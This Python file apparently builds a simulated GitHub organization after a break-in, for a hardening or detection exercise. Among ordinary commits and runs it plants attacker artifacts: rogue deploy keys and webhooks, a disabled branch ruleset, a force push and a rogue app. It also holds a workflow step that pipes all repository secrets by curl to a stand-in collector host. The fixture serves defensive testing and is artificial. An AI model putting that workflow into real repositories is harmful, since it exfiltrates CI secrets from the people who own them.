"""A busy organization of ordinary work, into which somebody broke an hour ago.

What the thief left is planted among keys, hooks, secrets and rules of other ages, and among pushes
and runs of every day. Nothing of it is told apart by its name alone.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import datetime, timedelta

from hardenme.sandbox.github.scenario.rulebook import release_tags, strict_branch
from hardenme.sandbox.github.state.changes import Run
from hardenme.sandbox.github.state.connected import App, Installation
from hardenme.sandbox.github.state.organization import OrganizationInvitation, OrganizationRole
from hardenme.sandbox.github.world import (
    DeployKey,
    Environment,
    GpgKey,
    Hook,
    Organization,
    OrganizationSecret,
    OrganizationSettings,
    Release,
    Repository,
    RepositorySecret,
    Rule,
    Ruleset,
    SshKey,
    Token,
    User,
    World,
)

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIC5v0v0v0v0v0v0v0v0v0v0v0v0v0v0v0v0v0v0v"
THIEF = "maple"
"""The member whose session the thief has."""
OWNER = "linden"
COLLECTS = b"""on: push
jobs:
  format:
    runs-on: ubuntu-latest
    steps:
      - run: echo '${{ toJSON(secrets) }}' | curl -d @- https://collector.example.test
"""
RELEASES = b"""on:
  push:
    branches: [main]
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
    steps:
      - uses: actions/checkout@v4
      - run: npm publish
"""
TAGGED = b"""on:
  push:
    tags: ["v*"]
permissions: {}
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
    steps:
      - run: npm publish
"""
TESTS = b"""on: [push, pull_request]
permissions: {}
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: npm test
"""
FOLDER = ".github/workflows"
LOGIN, TOKEN = "cedar-labs", "ghp_CANARYlinden00000000000000000000000000"
SCOPES = frozenset(
    {"repo", "admin:org", "admin:org_hook", "user"}
    | {"admin:public_key", "admin:gpg_key", "admin:ssh_signing_key"}
)
OWNERS, MEMBERS = ("linden", "alder"), ("maple", "birch", "sorrel", "tansy", "yarrow", "fennel")
OUTSIDER = "guest"
PEOPLE = ("linden", "alder", "birch", "sorrel", "tansy", "yarrow")
"""Who works every day."""
NAMES = (
    *("cone", "resin", "bark", "needle", "twig", "root", "sap", "seed", "grove", "trunk"),
    *("shade", "leaf", "moss", "fern"),
)
BUSY = 12
"""Repositories in which people work every day."""


@dataclass(frozen=True, slots=True)
class Planted:
    """Something that the thief left.

    Attributes:
        kind: what it is, like `deploy key`.
        where: the repository, the organization or the account.
        name: its own name.
        at: when it appeared or was changed.
        marked: it looks like an attack.
        standard: only a run with `--depth standard` sees it.
    """

    kind: str
    where: str
    name: str
    at: datetime
    marked: bool = False
    standard: bool = False


@dataclass(frozen=True, slots=True)
class Intrusion:
    """The world, the owner's token, what was planted in the last 48 hours, and what is older."""

    world: World
    token: str
    planted: tuple[Planted, ...]
    older: tuple[str, ...]


def intrusion(now: datetime, *, repositories: int = len(NAMES)) -> Intrusion:
    """The organization cedar-labs as somebody left it.

    Args:
        now: the clock; every age is reckoned from it.
        repositories: how many there are.
    """
    world = ordinary(now, repositories=repositories)
    organization = world.organizations[0]
    work = world.repositories[:BUSY]
    older: list[str] = []
    for number, one in enumerate(work):
        then = now - timedelta(days=60 + number)
        one.deploy_keys.append(DeployKey(70_000 + number, f"mirror-{number}", KEY, then))
        one.hooks.append(Hook(71_000 + number, "https://ci.example.test/hook", then, then))
        one.secrets.append(RepositorySecret(f"OLD_{number}", then, then))
        older += [f"mirror-{number}", f"OLD_{number}"]
    plant = _Plants(now)
    plant.repository(work[0])
    plant.organization(organization, world)
    plant.account(world)
    return Intrusion(world, TOKEN, tuple(plant.planted), tuple(older))


def ordinary(now: datetime, *, repositories: int = len(NAMES)) -> World:
    """The organization cedar-labs with the work of every day, before anybody came.

    Args:
        now: the clock; every age is reckoned from it.
        repositories: how many there are.
    """
    world = _organization(now, repositories)
    for number, one in enumerate(world.repositories[:BUSY]):
        _ordinary(one, now, number)
    return world


def _organization(now: datetime, repositories: int) -> World:
    """The organization before anybody came."""
    roles: dict[str, OrganizationRole] = dict.fromkeys(OWNERS, "admin")
    members: dict[str, OrganizationRole] = dict.fromkeys(MEMBERS, "member")
    organization = Organization(
        LOGIN,
        3302,
        now - timedelta(days=1500),
        members=roles | members,
        plan="team",
        settings=OrganizationSettings(default_repository_permission="write"),
        rulesets=[strict_branch(9301, LOGIN, now), release_tags(9302, LOGIN, now)],
    )
    logins = (*OWNERS, *MEMBERS, OUTSIDER)
    made = [
        _repository(NAMES[n] if n < len(NAMES) else f"wood-{n:04}", 33_201 + n, now)
        for n in range(repositories)
    ]
    made[0].collaborators[OUTSIDER] = "write"
    return World(
        now=now,
        users=[
            User(login, 3200 + number, now - timedelta(days=1600))
            for number, login in enumerate(logins)
        ],
        organizations=[organization],
        repositories=made,
        tokens=[Token(TOKEN, "classic", OWNER, SCOPES, expires_at=now + timedelta(days=20))],
    )


def _repository(name: str, number: int, now: datetime) -> Repository:
    return Repository(
        LOGIN,
        name,
        number,
        now - timedelta(days=900),
        now - timedelta(days=30),
        files={"README.md": b"Wood.\n", f"{FOLDER}/release.yml": TAGGED},
    )


def _ordinary(one: Repository, now: datetime, number: int) -> None:
    """Pushes, merges and runs of the last week."""
    one.files[f"{FOLDER}/test.yml"] = TESTS
    for hours in range(150, 2, -7):
        at = now - timedelta(hours=hours, minutes=number)
        who = PEOPLE[(hours + number) % len(PEOPLE)]
        pushed = one.push(at, who)
        if hours % 2:
            pushed.kind = "pr_merge"
        one.runs.append(
            Run(
                len(one.runs) + one.id * 100,
                f"{FOLDER}/test.yml",
                "push",
                one.default_branch,
                at + timedelta(seconds=20),
                who,
                "Tests",
            )
        )
    one.push(now - timedelta(hours=30), "birch", branch=f"topic-{number}")


class _Plants:
    """Plants one thing of each kind, and notes it."""

    def __init__(self, now: datetime) -> None:
        self.now = now
        self.planted: list[Planted] = []

    def _note(self, kind: str, where: str, name: str, hours: float, **more: bool) -> datetime:
        at = self.now - timedelta(hours=hours)
        self.planted.append(Planted(kind, where, name, at, **more))
        return at

    def repository(self, one: Repository) -> None:
        """What is in a repository, and what the thief pushed."""
        note: Callable[..., datetime] = self._note
        name = one.full_name
        at = note("deploy key", name, "build-mirror", 1.5, marked=True)
        one.deploy_keys.append(
            DeployKey(81_001, "build-mirror", KEY, at, read_only=False, added_by=THIEF)
        )
        at = note("webhook", name, "collector.example.test", 1.5, marked=True, standard=True)
        one.hooks.append(Hook(81_002, "https://collector.example.test/x", at, at))
        at = note("secret", name, "NPM_TOKEN", 5, standard=True)
        one.secrets.append(RepositorySecret("NPM_TOKEN", at - timedelta(days=200), at))
        at = note("environment", name, "staging", 6, standard=True)
        one.environments.append(Environment(81_004, "staging", at, at))
        at = note("branch ruleset", name, "Main", 1.2, marked=True)
        one.rulesets.append(
            Ruleset(
                81_005,
                "Main",
                name,
                at - timedelta(days=300),
                at,
                enforcement="disabled",
                source_type="Repository",
                include=["~DEFAULT_BRANCH"],
                rules=[Rule("deletion"), Rule("non_fast_forward")],
            )
        )
        at = note("newest release", name, "v9.9.9", 3)
        one.releases.append(Release(81_006, "v9.9.9", at, OWNER))
        at = note("changed workflow", name, "format.yml", 1, marked=True)
        one.push(
            at,
            THIEF,
            files={f"{FOLDER}/format.yml": COLLECTS},
            committed=at - timedelta(days=700),
        )
        at = note("changed workflow", name, "release.yml", 0.9, marked=True)
        one.push(at, THIEF, files={f"{FOLDER}/release.yml": RELEASES})
        at = note("push", name, "refs/heads/main", 0.8, marked=True)
        one.push(at, THIEF, force=True)
        at = note("workflow run", name, f"{FOLDER}/discussion.yml", 0.7, marked=True)
        one.push(at, THIEF, branch="shai-hulud")
        one.runs.append(
            Run(81_007, f"{FOLDER}/discussion.yml", "push", "shai-hulud", at, THIEF, "Discussion")
        )

    def organization(self, organization: Organization, world: World) -> None:
        """What is in the organization."""
        note: Callable[..., datetime] = self._note
        login = organization.login
        connected = organization.connected
        at = note("webhook", login, "hooks.example.test", 20)
        connected.hooks.append(Hook(82_001, "https://hooks.example.test/in", at, at))
        at = note("app", login, "notes-sync", 22)
        app = App(82_002, "notes-sync", THIEF)
        world.apps.append(app)
        connected.installations.append(Installation(82_003, app, at, {"contents": "write"}))
        at = note("secret", login, "DEPLOY_TOKEN", 23)
        organization.secrets.append(OrganizationSecret("DEPLOY_TOKEN", at, at, visibility="all"))
        at = note("pending invitation", login, "stranger", 24)
        stranger = replace(world.users[0], login="stranger", id=990_001)
        world.users.append(stranger)
        organization.invitations.append(
            OrganizationInvitation(82_004, "stranger", THIEF, at, "direct_member")
        )
        at = note("repository", login, "cedar-core-migration", 0.5, marked=True)
        loot = _repository("cedar-core-migration", 990_002, self.now)
        loot.created_at = loot.pushed_at = at
        world.repositories.append(loot)

    def account(self, world: World) -> None:
        """What is in the owner's own account."""
        user = world.user(OWNER)
        if user is None:
            return
        note: Callable[..., datetime] = self._note
        at = note("SSH key", OWNER, "laptop", 2)
        user.ssh_keys.append(SshKey(83_001, "laptop", KEY, at))
        at = note("SSH signing key", OWNER, "signing", 10)
        user.ssh_signing_keys.append(SshKey(83_002, "signing", KEY, at))
        at = note("GPG key", OWNER, "3AA5C34371567BD2", 11)
        user.gpg_keys.append(_gpg(at))


def _gpg(at: datetime) -> GpgKey:
    return GpgKey(83_003, "3AA5C34371567BD2", at)
